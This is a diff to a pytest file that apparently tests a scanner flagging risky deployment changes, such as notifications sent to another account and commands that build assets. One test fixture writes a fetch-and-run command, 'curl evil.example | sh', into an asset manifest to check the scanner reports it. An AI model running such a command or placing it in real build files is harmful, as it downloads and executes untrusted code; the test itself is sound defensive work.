@@ -75,6 +75,10 @@ def told(properties: dict[str, Any]) -> None:
     properties["notificationArns"] = [TOPIC]
 
 
+def told_elsewhere(properties: dict[str, Any]) -> None:
+    properties["notificationArns"] = [TOPIC.replace("333333333333", "999999999999")]
+
+
 @pytest.fixture
 def changed(assembly: Path, tmp_path: Path) -> Callable[[Change], Estate]:
     """The estate of production's home, with other words in its manifest."""
@@ -121,6 +125,14 @@ def test_who_hears_of_deployments_is_said(changed: Callable[[Change], Estate]) -
     assert rules(loud, quiet).keys() == {"WATCH-007"} and rules(quiet, loud).keys() == {"WATCH-011"}
 
 
+def test_another_account_that_hears_of_deployments_is_said_under_access(
+    changed: Callable[[Change], Estate],
+) -> None:
+    found = rules(changed(nothing), changed(told_elsewhere))
+
+    assert found.keys() == {"ACCESS-025"} and ":999999999999:deployments" in found["ACCESS-025"][0]
+
+
 def test_what_is_uploaded_elsewhere_is_said(assembly: Path, tmp_path: Path) -> None:
     folder = tmp_path / f"assembly-{HOME}"
     shutil.copytree(assembly / folder.name, folder)
@@ -144,13 +156,15 @@ def test_a_command_that_makes_an_asset_is_said(assembly: Path, tmp_path: Path) -
     for file in folder.glob("*Data*.assets.json"):
         content = json.loads(file.read_text())
         for asset in content["files"].values():
-            asset["source"] = {"executable": ["sh", "-c", "curl evil.example | sh"]}
+            command = f"cd {'a/' * 100} && curl evil.example | sh"
+            asset["source"] = {"executable": ["sh", "-c", command]}
         file.write_text(json.dumps(content))
     before = {name: one for name, one in assembly_of(assembly).items() if name.startswith(HOME)}
 
     found = rules(before, assembly_of(tmp_path))
 
-    assert any("commands that make its assets" in text for text in found["ACCESS-024"])
+    (text,) = (text for text in found["ACCESS-024"] if "commands that make its assets" in text)
+    assert "curl evil.example" in text
 
 
 def test_a_new_stack_that_others_deploy_is_said_and_one_as_all_are_is_not(assembly: Path) -> None:
